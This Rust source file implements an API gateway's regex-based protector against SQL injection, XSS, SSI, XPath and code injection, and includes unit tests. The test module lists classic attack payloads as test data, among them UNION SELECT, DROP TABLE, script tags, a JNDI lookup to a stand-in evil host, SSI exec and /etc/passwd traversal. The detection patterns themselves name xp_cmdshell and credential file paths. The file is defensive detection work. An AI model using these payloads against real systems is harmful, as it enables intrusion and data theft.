//! The regex protector: a built-in set of patterns for SQL injection, cross-site scripting,
//! server-side includes, XPath injection and code injection, plus the user's own, all
//! compiled once per snapshot into one multi-pattern matcher (a `RegexSet` over bytes: one
//! pass over a value, whatever the number of patterns).
//!
//! Values are scanned decoded: percent-escapes (twice, so `%253C` is no bypass), `+` as a
//! space in queries, and HTML character references (`&lt;`, `&#60;`, `&#x3c;`), so encoding a
//! payload does not hide it. The patterns are ours, written for this gateway with WSO2's
//! default regex threat protector as a reference for what to cover; each is tested for what it
//! catches and for ordinary text it must let through (docs/threat-protection.md).

use regex::bytes::{RegexSet, RegexSetBuilder};
use std::borrow::Cow;

/// The built-in patterns: (rule name, pattern). Case-insensitive, ASCII word boundaries.
pub const BUILT_IN: &[(&str, &str)] = &[
    // SQL injection: the shapes an injected fragment takes, not SQL words in prose.
    ("sql.union_select", r"\bunion(\s+all|\s+distinct)?\s+select\b"),
    ("sql.tautology", r#"['"`]\s*\)?\s*(or|and)\s+(['"`]\w*['"`]|\d+)\s*(=|<>|!=|like)\s*(['"`]\w*|\d+)"#),
    // A quote closing a literal, then a comment that ends the statement (`admin'--`): the
    // comment must end the value, so prose like `"no" -- he said` passes.
    ("sql.comment_after_quote", r#"['"`]\s*\)?\s*(;\s*)?(--|#)[\s-]*$|['"`]\s*\)?\s*/\*"#),
    (
        "sql.stacked_statement",
        r";\s*(drop\s+(table|database|schema)|truncate\s+table|alter\s+table|delete\s+from|insert\s+into|update\s+\w+\s+set|exec(ute)?\s+\w)",
    ),
    ("sql.timing_function", r"\b(sleep|benchmark|pg_sleep)\s*\(\s*\d|\bwaitfor\s+delay\s+'"),
    ("sql.system_objects", r"\b(information_schema|xp_cmdshell|sys\.objects|pg_catalog)\b"),
    // Cross-site scripting.
    ("xss.script_tag", r"<\s*/?\s*script\b"),
    ("xss.event_handler", r"<[^>]*\s+on[a-z]{3,}\s*="),
    ("xss.script_uri", r#"(href|src|action|formaction|xlink:href)\s*=\s*['"]?\s*(javascript|vbscript|data\s*:\s*text/html)\s*:?"#),
    ("xss.active_tag", r"<\s*(iframe|object|embed|svg|math|base|meta|frameset|applet)\b"),
    // Server-side includes.
    ("ssi.directive", r"<!--\s*#\s*(exec|include|echo|config|set|printenv|fsize|flastmod)\b"),
    // XPath injection: a quote closing a predicate, then a union or a wildcard path.
    ("xpath.predicate_escape", r"['\x22]\s*\]\s*(\||/\s*/|\[)"),
    ("xpath.functions", r"\b(count|string-length|substring|name)\s*\(\s*/"),
    // Code injection: Java and JavaScript.
    ("code.java_runtime", r"\bjava\.lang\.(runtime|processbuilder|reflect)\b|\bruntime\s*\.\s*getruntime\s*\(|\bclass\.forname\s*\("),
    ("code.java_exception", r"\bat\s+(java|javax|sun|org\.apache)\.[\w.$]+\([\w$]+\.java:\d+\)|\b(java|javax)\.[\w.]+(exception|error):"),
    ("code.jndi_lookup", r"\$\{\s*(jndi|lower|upper|env|sys|java)\s*:"),
    (
        "code.javascript_sink",
        r"\b(eval|settimeout|setinterval|function)\s*\(\s*['\x22`]|\bdocument\s*\.\s*(cookie|write|domain)\b|\bwindow\s*\.\s*location\s*=",
    ),
    ("code.path_traversal", r"(\.\.[/\\]){2,}|/etc/(passwd|shadow)\b|\bwin\.ini\b|\bcmd\.exe\b"),
];

/// A compiled protector.
#[derive(Debug)]
pub struct RegexProtector {
    /// Every pattern as one alternation: whether anything matches, answered by the fastest
    /// engine the regex crate has for it (a set's all-matches search is 2–4x slower on a
    /// benign 1 KiB JSON body, which is nearly every body).
    any: Option<regex::bytes::Regex>,
    /// Which pattern matched, asked only after `any` matched.
    set: RegexSet,
    names: Vec<Box<str>>,
    /// With exactly the built-in set: the rules a token-like value can match at all, as one
    /// literal search (see [`TOKEN_WORDS`]).
    token_words: Option<Vec<(usize, &'static [u8], &'static str)>>,
}

/// A value made only of `[A-Za-z0-9_.-]` (a JWT, a base64url token, an id), after an optional
/// auth scheme word and one space, has no space, quote, bracket, `<`, `;`, `(`, `/`, `$`, `=`
/// or `:`. Of the built-in patterns only these words can match such a value; each is the
/// start of the rule named beside it. `token_values_get_the_same_verdict_either_way` checks
/// this against the full set.
pub const TOKEN_WORDS: &[(&str, &str)] = &[
    ("information_schema", "sql.system_objects"),
    ("xp_cmdshell", "sql.system_objects"),
    ("sys.objects", "sql.system_objects"),
    ("pg_catalog", "sql.system_objects"),
    ("java.lang.runtime", "code.java_runtime"),
    ("java.lang.processbuilder", "code.java_runtime"),
    ("java.lang.reflect", "code.java_runtime"),
    ("document.cookie", "code.javascript_sink"),
    ("document.write", "code.javascript_sink"),
    ("document.domain", "code.javascript_sink"),
    ("win.ini", "code.path_traversal"),
    ("cmd.exe", "code.path_traversal"),
];

/// `None` when `value` is not token-like: `[A-Za-z0-9_.-]+`, after an optional scheme word
/// and one space (`Bearer `). Otherwise the rule of the first of `words` (offset of its
/// separator, word, rule) found in it, delimited as `\b` would delimit it.
fn token_scan(value: &[u8], words: &[(usize, &'static [u8], &'static str)]) -> Option<Option<&'static str>> {
    let body = match value.iter().position(|&b| b == b' ') {
        Some(i) if value[..i].iter().all(u8::is_ascii_alphabetic) => &value[i + 1..],
        Some(_) => return None,
        None => value,
    };
    if body.is_empty() {
        return None;
    }
    let is_word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    let mut hit = None;
    for (p, &b) in body.iter().enumerate() {
        // One table lookup per byte, and a branch that is nearly always taken the same way
        // (a byte-range `match` mispredicts on random base64).
        match TOKEN_CLASS[b as usize] {
            TOKEN_CHAR => {}
            TOKEN_SEPARATOR if hit.is_none() => {
                hit = words.iter().find_map(|&(k, w, rule)| {
                    let start = p.checked_sub(k)?;
                    if body[p] != w[k] || body[start].to_ascii_lowercase() != w[0] {
                        return None;
                    }
                    let end = start + w.len();
                    let found = body.get(start..end)?.eq_ignore_ascii_case(w)
                        && (start == 0 || !is_word(body[start - 1]))
                        && body.get(end).is_none_or(|&b| !is_word(b));
                    found.then_some(rule)
                });
            }
            TOKEN_SEPARATOR => {}
            _ => return None,
        }
    }
    Some(hit)
}

const TOKEN_CHAR: u8 = 0;
const TOKEN_SEPARATOR: u8 = 1;
const NOT_TOKEN: u8 = 2;

/// What a byte is in a token: `[A-Za-z0-9-]`, a separator (`.`, `_`), or neither.
static TOKEN_CLASS: [u8; 256] = {
    let mut t = [NOT_TOKEN; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        if c.is_ascii_alphanumeric() || c == b'-' {
            t[b] = TOKEN_CHAR;
        } else if c == b'.' || c == b'_' {
            t[b] = TOKEN_SEPARATOR;
        }
        b += 1;
    }
    t
};

#[cfg(test)]
fn token_like(value: &[u8]) -> bool {
    token_scan(value, &[]).is_some()
}

impl RegexProtector {
    /// Compiles `patterns` (rule name, pattern). Errors: the index of the bad pattern and why.
    pub fn compile<'a>(patterns: impl IntoIterator<Item = (&'a str, &'a str)>) -> Result<RegexProtector, (usize, String)> {
        let (names, sources): (Vec<Box<str>>, Vec<String>) =
            patterns.into_iter().map(|(n, p)| (Box::from(n), format!("(?i-u:{p})"))).unzip();
        for (i, s) in sources.iter().enumerate() {
            if let Err(e) = regex::bytes::Regex::new(s) {
                return Err((i, e.to_string()));
            }
        }
        let set = RegexSetBuilder::new(&sources).size_limit(16 << 20).dfa_size_limit(16 << 20).build().map_err(|e| (0, e.to_string()))?;
        let built_in = names.len() == BUILT_IN.len()
            && names.iter().zip(&sources).zip(BUILT_IN).all(|((n, s), (bn, bp))| **n == **bn && *s == format!("(?i-u:{bp})"));
        // Each word with the offset of its first `.` or `_` (every word has one: see
        // `every_token_word_has_a_separator`), where a scan of a token looks for it.
        let token_words = built_in.then(|| {
            TOKEN_WORDS.iter().map(|&(w, rule)| (w.bytes().position(|b| b == b'.' || b == b'_').unwrap_or(0), w.as_bytes(), rule)).collect()
        });
        let any = regex::bytes::RegexBuilder::new(&sources.join("|"))
            .size_limit(16 << 20)
            .dfa_size_limit(16 << 20)
            .build()
            .map_err(|e| (0, e.to_string()))?;
        Ok(RegexProtector { any: Some(any), set, names, token_words })
    }

    /// The built-in set.
    pub fn built_in() -> RegexProtector {
        // The built-in patterns are tested to compile (`every_built_in_pattern_compiles`).
        match RegexProtector::compile(BUILT_IN.iter().copied()) {
            Ok(p) => p,
            Err(_) => RegexProtector { any: None, set: RegexSet::empty(), names: Vec::new(), token_words: None },
        }
    }

    /// The first rule (in list order) that matches `value` as it is.
    pub fn scan_raw(&self, value: &[u8]) -> Option<&str> {
        // A token-like value (a bearer token, an id) can only match a few literal words, each
        // with a `.` or `_` in it: one pass over the value, looking for the words only where
        // such a separator is (a JWT has two dots and a few underscores), instead of the whole
        // set (about 1.7 µs for a 577-character JWT).
        if let Some(words) = &self.token_words {
            if let Some(hit) = token_scan(value, words) {
                return hit;
            }
        }
        // Nearly every value matches nothing: one pass of the alternation says so; only a hit
        // pays for finding its rule.
        if !self.any.as_ref().is_some_and(|a| a.is_match(value)) {
            return None;
        }
        self.set.matches(value).iter().next().and_then(|i| self.names.get(i)).map(|n| &**n)
    }

    /// The first rule that matches `value` decoded (`query`: `+` is a space). Patterns are
    /// written against decoded text; decoding only rewrites escapes, so a pattern without `%`,
    /// `&` or `+` of its own that matches the raw value matches the decoded one too.
    pub fn scan(&self, value: &[u8], query: bool) -> Option<&str> {
        self.scan_raw(&decode(value, query))
    }
}

/// `value` with percent-escapes decoded twice, `+` as a space when `query`, and HTML
/// character references decoded; borrowed when there is nothing to decode.
pub fn decode(value: &[u8], query: bool) -> Cow<'_, [u8]> {
    let mut cur = Cow::Borrowed(value);
    if query && memchr::memchr(b'+', value).is_some() {
        cur = Cow::Owned(value.iter().map(|&b| if b == b'+' { b' ' } else { b }).collect());
    }
    for _ in 0..2 {
        if memchr::memchr(b'%', &cur).is_none() {
            break;
        }
        cur = Cow::Owned(percent_decode(&cur));
    }
    if memchr::memchr(b'&', &cur).is_some() {
        cur = Cow::Owned(html_unescape(&cur));
    }
    cur
}

/// `%XX` decoded; a `%` not followed by two hex digits is kept as it is. The runs between
/// escapes are copied whole (found with memchr), not byte by byte.
fn percent_decode(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut rest = s;
    let hex = |b: Option<&u8>| b.and_then(|&b| (b as char).to_digit(16));
    while let Some(i) = memchr::memchr(b'%', rest) {
        out.extend_from_slice(&rest[..i]);
        match (hex(rest.get(i + 1)), hex(rest.get(i + 2))) {
            (Some(h), Some(l)) => {
                out.push((h * 16 + l) as u8);
                rest = &rest[i + 3..];
            }
            _ => {
                out.push(b'%');
                rest = &rest[i + 1..];
            }
        }
    }
    out.extend_from_slice(rest);
    out
}

/// Decodes `&lt; &gt; &quot; &apos; &amp; &#NN; &#xHH;` (the ones a payload hides behind).
fn html_unescape(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        // Copy the run up to the next `&` whole.
        let Some(amp) = memchr::memchr(b'&', &s[i..]) else {
            out.extend_from_slice(&s[i..]);
            break;
        };
        out.extend_from_slice(&s[i..i + amp]);
        i += amp;
        let end = s[i..].iter().take(12).position(|&b| b == b';').map(|p| i + p);
        if let Some(end) = end {
            let entity = &s[i + 1..end];
            let ch = match entity {
                b"lt" => Some('<' as u32),
                b"gt" => Some('>' as u32),
                b"quot" => Some('"' as u32),
                b"apos" => Some('\'' as u32),
                b"amp" => Some('&' as u32),
                [b'#', b'x' | b'X', hex @ ..] => std::str::from_utf8(hex).ok().and_then(|h| u32::from_str_radix(h, 16).ok()),
                [b'#', dec @ ..] => std::str::from_utf8(dec).ok().and_then(|d| d.parse().ok()),
                _ => None,
            };
            if let Some(c) = ch.and_then(char::from_u32) {
                let mut buf = [0u8; 4];
                out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                i = end + 1;
                continue;
            }
        }
        out.push(s[i]);
        i += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_built_in_pattern_compiles() {
        for (i, (name, p)) in BUILT_IN.iter().enumerate() {
            assert!(RegexProtector::compile([(*name, *p)]).is_ok(), "{i} {name}");
        }
        assert!(RegexProtector::compile(BUILT_IN.iter().copied()).is_ok());
    }

    #[test]
    fn the_classic_attacks_are_caught_by_their_rule() {
        let p = RegexProtector::built_in();
        for (payload, rule) in [
            ("1 UNION SELECT username, password FROM users", "sql.union_select"),
            ("1 union all select null,null--", "sql.union_select"),
            ("' OR 1=1", "sql.tautology"),
            ("x' or 'a'='a", "sql.tautology"),
            ("\" OR \"\"=\"", "sql.tautology"),
            ("admin'--", "sql.comment_after_quote"),
            ("admin') /*", "sql.comment_after_quote"),
            ("1; DROP TABLE users", "sql.stacked_statement"),
            ("5; delete from orders where 1", "sql.stacked_statement"),
            ("1 AND SLEEP(5)", "sql.timing_function"),
            ("'; WAITFOR DELAY '0:0:5'", "sql.timing_function"),
            ("select * from information_schema.tables", "sql.system_objects"),
            ("<script>alert(1)</script>", "xss.script_tag"),
            ("< SCRIPT src=//evil>", "xss.script_tag"),
            ("<img src=x onerror=alert(1)>", "xss.event_handler"),
            ("<body onload = steal()>", "xss.event_handler"),
            ("<a href=\"javascript:alert(1)\">", "xss.script_uri"),
            ("<iframe src=//evil.example>", "xss.active_tag"),
            ("<svg/onload=alert(1)>", "xss.active_tag"),
            ("<!--#exec cmd=\"ls\" -->", "ssi.directive"),
            ("<!-- #include virtual=\"/etc/passwd\" -->", "ssi.directive"),
            ("x'] | //user[name='admin", "xpath.predicate_escape"),
            ("count(/users/user)", "xpath.functions"),
            ("java.lang.Runtime", "code.java_runtime"),
            ("Runtime.getRuntime().exec(\"id\")", "code.java_runtime"),
            ("\tat java.util.ArrayList.get(ArrayList.java:42)", "code.java_exception"),
            ("java.lang.NullPointerException: oops", "code.java_exception"),
            ("${jndi:ldap://evil.example/a}", "code.jndi_lookup"),
            ("${ lower:j}ndi", "code.jndi_lookup"),
            ("eval('alert(1)')", "code.javascript_sink"),
            ("document.cookie", "code.javascript_sink"),
            ("../../../etc/passwd", "code.path_traversal"),
            ("..\\..\\windows\\win.ini", "code.path_traversal"),
        ] {
            assert_eq!(p.scan(payload.as_bytes(), false), Some(rule), "{payload:?}");
        }
    }

    #[test]
    fn encoding_is_no_bypass() {
        let p = RegexProtector::built_in();
        for (payload, query) in [
            ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", false),
            ("%253Cscript%253E", false),
            ("1+UNION+SELECT+password+FROM+users", true),
            ("&lt;script&gt;", false),
            ("&#60;script&#62;", false),
            ("&#x3C;svg onload=x&#x3E;", false),
            ("%26lt%3Bscript%26gt%3B", false),
        ] {
            assert!(p.scan(payload.as_bytes(), query).is_some(), "{payload:?}");
        }
    }

    #[test]
    fn ordinary_text_passes() {
        let p = RegexProtector::built_in();
        for benign in [
            "O'Brien",
            "Miles O'Brien's order",
            "Please select a size and drop it in the basket",
            "We will drop the old table from the kitchen",
            "union members select their delegates",
            "SELECT is a keyword; so is DROP",
            "alice@example.com",
            "https://shop.example/items/42?ref=a%20b&sort=price",
            r#"{"name":"O'Brien","note":"it's 5 o'clock","url":"https://x.example/?a=1&b=2"}"#,
            "I <3 your API",
            "a < b and c > d",
            "on sale = true",
            "Tom & Jerry",
            "He said \"no\" -- then he left",
            "the \"x\" # of items",
            "the function(x) returns y",
            "price > 10 and qty = 2",
            "the script is ready",
            "2 + 2 = 4",
            "path/to/file.txt",
            "It's 1=1 in algebra, isn't it",
            "<b>bold</b> and <i>italic</i>",
            "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><m:GetPrice xmlns:m=\"https://www.w3schools.com/prices\"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>",
        ] {
            assert_eq!(p.scan(benign.as_bytes(), false), None, "{benign:?}");
            assert_eq!(p.scan(benign.as_bytes(), true), None, "{benign:?} as a query");
        }
    }

    #[test]
    fn percent_decoding_matches_the_percent_encoding_crate() {
        for v in ["", "%", "%4", "%41", "%4g%41", "a%%41b", "%zz%2", "%3C%3c%253C", "100%", "%e2%82%ac x", "%%%"] {
            let ours = percent_decode(v.as_bytes());
            let theirs: Vec<u8> = percent_encoding::percent_decode(v.as_bytes()).collect();
            assert_eq!(ours, theirs, "{v:?}");
        }
    }

    #[test]
    fn every_token_word_has_a_separator() {
        for (w, _) in TOKEN_WORDS {
            assert!(w.contains('.') || w.contains('_'), "{w}");
        }
    }

    #[test]
    fn token_values_get_the_same_verdict_either_way() {
        let fast = RegexProtector::built_in();
        assert!(fast.token_words.is_some());
        // The same patterns under other names: no fast path, the whole set decides.
        let renamed: Vec<(String, &str)> = BUILT_IN.iter().map(|(n, p)| (format!("{n}."), *p)).collect();
        let full = RegexProtector::compile(renamed.iter().map(|(n, p)| (n.as_str(), *p))).unwrap();
        assert!(full.token_words.is_none());
        let jwt = "eyJhbGciOiJSUzI1NiIsImtpZCI6ImsxIn0.eyJzdWIiOiJ1c2VyLTQyIn0.c2lnbmF0dXJl-_x";
        let mut values: Vec<String> =
            vec![jwt.into(), format!("Bearer {jwt}"), "12345".into(), "a.b-c_d".into(), "Basic dXNlcjpwYXNz".into()];
        for (w, _) in TOKEN_WORDS {
            values.push(format!("Bearer abc{w}xyz"));
            values.push(format!("Bearer abc.{w}.xyz"));
            values.push(w.to_ascii_uppercase());
            values.push(format!("x_{w}"));
            values.push(format!("{w}_x"));
            values.push(format!("{w}-x.{w}"));
            values.push(format!("Bearer {}", w.replace('.', "..")));
        }
        // Words of other rules that a token cannot spell completely.
        for w in ["union", "select", "script", "sleep", "etc.passwd", "java.lang.Runtimex", "jndi", "eval"] {
            values.push(format!("x.{w}.y"));
        }
        for v in &values {
            assert!(token_like(v.as_bytes()) || v.contains(' '), "{v}");
            let a = fast.scan_raw(v.as_bytes());
            let b = full.scan_raw(v.as_bytes()).map(|r| r.trim_end_matches('.'));
            assert_eq!(a, b, "{v:?}");
        }
        // And the fast path does catch: every word, delimited, is found by its rule.
        for (w, rule) in TOKEN_WORDS {
            assert_eq!(fast.scan_raw(format!("Bearer abc.{w}.xyz").as_bytes()), Some(*rule), "{w}");
        }
    }

    #[test]
    fn user_patterns_compile_into_the_same_set_and_bad_ones_are_reported() {
        let p = RegexProtector::compile([("no-tabs", r"\t"), ("sql.union_select", BUILT_IN[0].1)]).unwrap();
        assert_eq!(p.scan(b"a\tb", false), Some("no-tabs"));
        assert_eq!(p.scan(b"x union select y", false), Some("sql.union_select"));
        let err = RegexProtector::compile([("ok", "a"), ("broken", "(")]).unwrap_err();
        assert_eq!(err.0, 1);
    }
}
